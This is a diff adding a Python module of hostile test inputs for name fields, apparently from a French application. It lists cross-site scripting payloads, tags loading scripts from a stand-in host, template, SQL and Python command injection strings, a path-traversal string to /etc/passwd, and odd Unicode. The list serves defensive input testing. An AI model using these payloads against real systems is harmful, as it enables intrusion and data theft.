@@ -1,0 +1,117 @@
+"""Names that someone may type to do harm, or that merely break what was not thought through.
+
+Each is at most 60 characters, the most that a name may have, and holds no line break, which no
+one-line field keeps.
+"""
+
+from __future__ import annotations
+
+MARKUP = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//mal.example/x.js></SCRIPT>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="https://mal.example/p.png">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<math><mi xlink:href=javascript:alert(1)>x",
+    "<iframe src=javascript:alert(1)>",
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    "<object data=javascript:alert(1)>",
+    "<base href=https://mal.example/>",
+    "<meta http-equiv=refresh content=0;url=//mal.example>",
+    "<link rel=stylesheet href=//mal.example/x.css>",
+    "<style>*{display:none}</style>",
+    "<form action=//mal.example><button>Résoudre",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+    "<a href=javascript:alert(1)>Garde</a>",
+    "<b>gras</b> & <i>italique</i>",
+    "<!-- caché --><!--",
+    "<![CDATA[x]]>",
+    "<?xml version='1.0'?><!DOCTYPE x>",
+    "<template><p>x</template>",
+    "</p></div></section></main>",
+    "&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp;",
+    "&#x3C;script&#x3E;alert(1)",
+]
+ATTRIBUTES = [
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    '"><script>alert(1)</script>',
+    "` onclick=alert(1) `",
+    '" style="position:fixed;inset:0" x="',
+    '" aria-hidden="true" hidden class="ncalc-nom',
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "url(https://mal.example/x)",
+    "expression(alert(1))",
+    "}*{display:none}",
+]
+TEMPLATES = [
+    "{{7*7}}",
+    "{% raw %}",
+    "${alert(1)}",
+    "#{7*7}",
+    "{A} touche {d} : {dommages}.",
+    "{nom!r:>9999999}",
+    "%s %d %(nom)s %%",
+    "$1 $& \\1 \\g<0>",
+    "__proto__",
+    "constructor",
+    "toString",
+]
+WIKI = [
+    "{{Modèle|1={{PAGENAME}}}}",
+    "[[Fichier:x.png|thumb]] '''gras'''",
+    "<nowiki>x</nowiki><pre>",
+    "~~~~ __NOTOC__ {{{1}}}",
+    "[https://mal.example lien]",
+    "{| class=x\u2028|-",
+    "== Titre ==",
+]
+JSON_AND_CODE = [
+    '","degre":30,"x":"',
+    '"}}]}',
+    "\\u0000\\n\\",
+    "\\",
+    '"',
+    "'",
+    "null",
+    "'; DROP TABLE combat; --",
+    "__import__('os').system('id')",
+    "../../../etc/passwd",
+]
+CHARACTERS = [
+    "\u202eevitarucsrE\u202c",
+    "\u2066\u202e\u2069 bidi \u200f\u200e",
+    "zéro\u200blargeur\u200c\u200d\ufeff",
+    "\u00ad\u2060\u180e",
+    "a\0b",
+    "\0",
+    "\ud800",
+    "\udfff",
+    "x\udc00\ud800y",
+    "\ud83d",
+    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349",
+    "👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e007f",
+    "\ufffd\ufffe\uffff\U0010ffff",
+    "\u0085\u2028\u2029\x1b[31m\x07\x08\x7f",
+    "\t tabulation \t",
+    " \u00a0 bords \u3000 ",
+    "ﷺ" * 60,
+    "W" * 60,
+    "字" * 60,
+    "\U0001f409" * 60,
+    "ا" * 60,
+    "e\u0301" * 30,
+    "ﬁ Ǆ İ ß ſ",
+    "١٢٣ Ⅳ ½",
+    "-",
+    ".",
+    "00",
+]
+
+HOSTILE = [*MARKUP, *ATTRIBUTES, *TEMPLATES, *WIKI, *JSON_AND_CODE, *CHARACTERS]
